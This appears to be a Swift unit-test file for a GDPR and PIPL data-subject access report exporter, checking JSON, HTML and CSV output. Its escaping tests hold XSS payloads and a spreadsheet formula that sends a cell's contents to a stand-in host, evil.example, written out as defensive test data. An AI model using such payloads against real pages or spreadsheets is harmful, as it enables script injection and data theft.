import CustosCharts
@testable import CustosRights
import CustosSchema
import Foundation
import XCTest

final class AccessReportTests: XCTestCase {
    let requestID = DataSubjectRequestID(randomBytes: [UInt8](repeating: 1, count: 16))
    let generated = instant("2024-09-10T08:00:00Z")

    func report(_ info: ProcessingInformation = Sample.information(), datasets: [SubjectDataset]? = nil,
                jurisdiction: Jurisdiction = .gdpr) throws -> AccessReport {
        try AccessReport(requestID: requestID, jurisdiction: jurisdiction, generatedAt: generated,
                         datasets: try datasets ?? SampleData.datasets(), information: info)
    }

    func jsonObject(_ report: AccessReport) throws -> [String: Any] {
        try XCTUnwrap(try JSONSerialization.jsonObject(with: try report.json().contents) as? [String: Any])
    }

    func testJSONHasEveryArticle15ItemAndNoneIsSilentlyEmpty() throws {
        let json = try jsonObject(try report())
        for section in AccessReportSection.all {
            let value = try XCTUnwrap(json[section.key], "missing \(section.key)")
            switch value {
            case let list as [Any]: XCTAssertFalse(list.isEmpty, "\(section.key) is an empty list")
            case let object as [String: Any]:
                if let applicable = object["applicable"] as? Bool {
                    if applicable { XCTAssertNotNil(object["value"], section.key) } else {
                        XCTAssertFalse((object["reason"] as? String ?? "").isEmpty, "\(section.key) not applicable without a reason")
                    }
                } else {
                    XCTAssertFalse(object.isEmpty, section.key)
                }
            default: XCTFail("\(section.key) has an unexpected shape")
            }
        }
        let index = try XCTUnwrap(json["article_index"] as? [String: String])
        XCTAssertEqual(Set(index.values), [
            "GDPR art. 15(1)(a)", "GDPR art. 15(1)(b)", "GDPR art. 15(1)(c)", "GDPR art. 15(1)(d)", "GDPR art. 15(1)(e)",
            "GDPR art. 15(1)(f)", "GDPR art. 15(1)(g)", "GDPR art. 15(1)(h)", "GDPR art. 15(2)", "GDPR art. 15(3)",
        ])
        XCTAssertEqual(Set(index.keys), Set(AccessReportSection.all.map(\.key)))
        XCTAssertEqual(index["recipients"], "GDPR art. 15(1)(c)")

        let purposes = try XCTUnwrap(json["purposes"] as? [[String: Any]])
        XCTAssertEqual(purposes.first?["lawful_basis_citation"] as? String, "GDPR art. 6(1)(b): performance of a contract")
        let complaint = try XCTUnwrap(json["right_to_complain"] as? [String: Any])
        XCTAssertTrue((complaint["statement"] as? String ?? "").contains("art. 77"))
        let rights = try XCTUnwrap(json["rights"] as? [String: Any])
        XCTAssertEqual((rights["rights"] as? [String])?.count, 6)
        let automated = try XCTUnwrap(json["automated_decision_making"] as? [String: Any])
        XCTAssertEqual(automated["applicable"] as? Bool, false)
        let sources = try XCTUnwrap((json["sources"] as? [String: Any])?["value"] as? [[String: String]])
        XCTAssertEqual(sources.map { $0["dataset"] ?? "" }, ["customers", "events", "feedback", "orders"])
        XCTAssertEqual(sources.first?["source"], "Collected from the customer at sign-up (web shop, app, stores) and kept in the CRM.")
        let categories = try XCTUnwrap((json["categories_of_personal_data"] as? [String: Any])?["value"] as? [[String: Any]])
        XCTAssertTrue(categories.contains { $0["key"] as? String == "user.contact.email" && $0["label"] as? String == "Email address" })
    }

    func testJSONCarriesACopyOfEveryRecordWithExactValues() throws {
        let json = try jsonObject(try report())
        let copies = try XCTUnwrap(json["personal_data"] as? [[String: Any]])
        XCTAssertEqual(copies.map { $0["dataset"] as? String ?? "" }, ["customers", "events", "feedback", "orders"])
        let orders = try XCTUnwrap(copies.last?["records"] as? [[String: Any]])
        XCTAssertEqual(orders.first?["amount"] as? String, "199.90")
        XCTAssertEqual(orders.first?["items"] as? String, "SKU-1;SKU-2")
        XCTAssertEqual(orders.last?["order_time"] as? String, "2024-05-09T10:45:00Z")
        let customers = try XCTUnwrap(copies.first?["records"] as? [[String: Any]])
        XCTAssertEqual(customers.first?["full_name"] as? String, "李伟 (Li Wei), \"小李\"")
        XCTAssertTrue(customers.last?["gender"] is NSNull, "a missing value is null")
        XCTAssertEqual(copies.first?["record_count"] as? Int, 2)
        let header = try XCTUnwrap(json["report"] as? [String: Any])
        XCTAssertEqual(header["request_id"] as? String, requestID.rawValue)
        XCTAssertEqual(header["legal_basis"] as? String, "GDPR art. 15")
        XCTAssertEqual(header["summary"] as? String, "We hold 8 records about you in 4 datasets.")
    }

    func testHTMLHasASectionForEveryItem() throws {
        let html = try report().html().text
        for section in AccessReportSection.all {
            XCTAssertTrue(html.contains("<section id=\"\(section.htmlID)\"><h2>\(section.title.htmlEscaped) <span class=\"provision\">\(section.gdprProvision)</span></h2>"),
                          "missing section \(section.htmlID)")
        }
        XCTAssertTrue(html.contains("Not applicable: We make no decisions about you by automated means alone."))
        XCTAssertTrue(html.contains("<td>PostNord AB</td><td>processor</td><td>parcel delivery</td><td>SE</td>"))
        XCTAssertTrue(html.contains("<td>199.90</td>"))
        XCTAssertTrue(html.contains("<td>Åsa Öberg\nc/o Ström, Göteborg</td>"))
        XCTAssertTrue(html.contains("Integritetsskyddsmyndigheten (IMY)"))
        XCTAssertTrue(html.contains("<th>full_name<small>user.name</small></th>"))
    }

    func testPIPLReportCitesPIPLProvisions() throws {
        var info = Sample.information()
        info.complaintAuthority = ComplaintAuthority(name: "Cyberspace Administration of China", contact: "www.12377.cn")
        let pipl = try report(info, jurisdiction: .pipl)
        let html = try pipl.html().text
        XCTAssertTrue(html.contains("PIPL art. 23"))
        XCTAssertTrue(html.contains("PIPL art. 45"))
        XCTAssertTrue(html.contains("第五十条"))
        XCTAssertEqual((try jsonObject(pipl)["report"] as? [String: Any])?["legal_basis"] as? String, "PIPL art. 45")
        // PIPL has no legitimate-interests basis.
        info.purposes[0].lawfulBasis = .legitimateInterests
        XCTAssertThrowsError(try report(info, jurisdiction: .pipl)) { error in
            XCTAssertEqual(error as? ExportError, .basisNotAvailable(purpose: "orders.fulfilment", basis: .legitimateInterests, jurisdiction: .pipl))
        }
    }

    func testHostileStringsAreEscapedNeverInterpreted() throws {
        let catalog = try Sample.catalog()
        let customers = try catalog.dataset("customers")
        var raw = SampleData.customers[0]
        raw[3] = "<script>alert('x')</script> & {{title}} {{{summary}}}"
        raw[5] = "\"><img src=x onerror=alert(1)>"
        var info = Sample.information()
        info.purposes[0].description = "</td></tr></table><script>steal()</script>"
        info.controller.name = "Nordhav & Söner <AB>"
        let hostile = try report(info, datasets: [try SubjectDataset(schema: customers, rows: try SampleData.rows(customers, [raw]))])
        let html = try hostile.html().text
        XCTAssertFalse(html.contains("<script"), "no script element survives")
        XCTAssertFalse(html.contains("<img"), "no injected element survives")
        XCTAssertTrue(html.contains("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; {{title}} {{{summary}}}"),
                      "data is escaped, and template tags inside data stay literal text")
        XCTAssertTrue(html.contains("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"))
        XCTAssertTrue(html.contains("&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;script&gt;steal()&lt;/script&gt;"))
        XCTAssertTrue(html.contains("Nordhav &amp; Söner &lt;AB&gt;"))
    }

    func testHTMLIsSelfContainedAndTemplatesOnlyUseEscapedTags() throws {
        let html = try report().html().text
        XCTAssertTrue(html.contains("Content-Security-Policy"))
        XCTAssertTrue(html.contains("@media print"))
        for forbidden in ["<script", "<link", "<img", "<iframe", "src=", "@import", "url("] {
            XCTAssertFalse(html.contains(forbidden), "page refers to \(forbidden)")
        }
        for template in try Page.allTemplateSources.values {
            XCTAssertFalse(template.contains("{{{"), "triple mustache would skip escaping")
            XCTAssertFalse(template.contains("{{&"), "ampersand tag would skip escaping")
        }
    }

    func testEveryItemMustBeStatedOrMarkedNotApplicable() throws {
        func item(_ error: Error) -> String? { if case let .missingItem(item, _) = error as? ExportError { return item } else { return nil } }
        XCTAssertThrowsError(try report(Sample.information(recipients: .stated([])))) { XCTAssertEqual(item($0), "GDPR art. 15(1)(c)") }
        XCTAssertThrowsError(try report(Sample.information(recipients: .notApplicable(reason: " ")))) {
            XCTAssertEqual(item($0), "GDPR art. 15(1)(c)")
        }
        var info = Sample.information()
        info.purposes = []
        XCTAssertThrowsError(try report(info)) { XCTAssertEqual(item($0), "GDPR art. 15(1)(a)") }
        info = Sample.information()
        info.retention = []
        XCTAssertThrowsError(try report(info)) { XCTAssertEqual(item($0), "GDPR art. 15(1)(d)") }
        info = Sample.information()
        info.complaintAuthority = ComplaintAuthority(name: "", contact: "")
        XCTAssertThrowsError(try report(info)) { XCTAssertEqual(item($0), "GDPR art. 15(1)(f)") }
        info = Sample.information()
        info.automatedDecisionMaking = .stated(AutomatedDecisionInfo(logic: "scoring", significance: "", consequences: "none"))
        XCTAssertThrowsError(try report(info)) { XCTAssertEqual(item($0), "GDPR art. 15(1)(h)") }
        info = Sample.information()
        info.internationalTransfers = .stated([])
        XCTAssertThrowsError(try report(info)) { XCTAssertEqual(item($0), "GDPR art. 15(2)") }
        info = Sample.information()
        info.rights = []
        XCTAssertThrowsError(try report(info)) { XCTAssertEqual(item($0), "GDPR art. 15(1)(e)") }
    }

    func testASubjectWithNoDataGetsExplicitNotApplicableItems() throws {
        let empty = try report(datasets: [])
        let json = try jsonObject(empty)
        XCTAssertEqual((json["categories_of_personal_data"] as? [String: Any])?["applicable"] as? Bool, false)
        XCTAssertEqual((json["sources"] as? [String: Any])?["applicable"] as? Bool, false)
        XCTAssertEqual((json["personal_data"] as? [Any])?.count, 0)
        let html = try empty.html().text
        XCTAssertTrue(html.contains("<p class=\"na\">Not applicable: We hold no personal data about you"))
        XCTAssertEqual(empty.csvFiles(), [])
    }

    func testCSVFilesOnePerDatasetWithAllColumns() throws {
        let files = try report().csvFiles()
        XCTAssertEqual(files.map(\.name), ["access-customers.csv", "access-events.csv", "access-feedback.csv", "access-orders.csv"])
        let customers = try TestCSV.parse(files[0].text)
        XCTAssertEqual(customers[0], ["customer_id", "email", "phone", "full_name", "birth_date", "postcode", "country", "gender",
                                      "signup_date", "loyalty_tier"])
        XCTAssertEqual(customers.count, 3)
        XCTAssertEqual(customers[1][3], "李伟 (Li Wei), \"小李\"")
        XCTAssertEqual(customers[1][2], "+8613800138000")
        let all = try report().allFiles()
        XCTAssertEqual(all.map(\.name).prefix(2), ["access-report.json", "access-report.html"])
    }

    func testInputsAreChecked() throws {
        let customers = try Sample.catalog().dataset("customers")
        XCTAssertThrowsError(try SubjectDataset(schema: customers, rows: [[.string("only one value")]])) { error in
            XCTAssertEqual(error as? ExportError, .rowWidth(dataset: "customers", row: 1, expected: 10, found: 1))
        }
        let one = try SubjectDataset(schema: customers, rows: [])
        XCTAssertThrowsError(try report(datasets: [one, one])) { XCTAssertEqual($0 as? ExportError, .duplicateDataset("customers")) }
    }

    func testProcessingInformationRoundTripsThroughJSON() throws {
        let info = Sample.information()
        let data = try JSONEncoder().encode(info)
        XCTAssertEqual(try JSONDecoder().decode(ProcessingInformation.self, from: data), info)
        XCTAssertTrue(String(decoding: data, as: UTF8.self).contains("\"automated_decision_making\""))
    }

    func testAFormulaInACustomersNameIsNeutralisedInTheAccessPackageCSV() throws {
        // The attack: a name =HYPERLINK("http://evil.example/?x="&A1,"click") went verbatim into the CSV.
        var customers = SampleData.customers
        customers[0][3] = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
        customers[1][2] = "+46 70 123 45 67"
        let catalog = try Sample.catalog()
        let data = [try SubjectDataset(schema: try catalog.dataset("customers"), rows: try SampleData.rows(try catalog.dataset("customers"), customers))]
        let csv = try XCTUnwrap(try report(datasets: data).csvFiles().first { $0.name.contains("customers") })
        let text = String(decoding: csv.contents, as: UTF8.self)
        XCTAssertTrue(text.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""), text)
        XCTAssertTrue(text.contains(",'+46701234567,"), text)  // phone numbers are normalised, then neutralised
        XCTAssertFalse(text.contains(",=HYPERLINK") || text.contains("\"=HYPERLINK"), "no cell starts with a formula")
    }
}

extension String {
    /// The same escaping the templates apply (test helper).
    var htmlEscaped: String {
        replacingOccurrences(of: "&", with: "&amp;").replacingOccurrences(of: "<", with: "&lt;").replacingOccurrences(of: ">", with: "&gt;")
            .replacingOccurrences(of: "\"", with: "&quot;").replacingOccurrences(of: "'", with: "&#39;")
    }
}
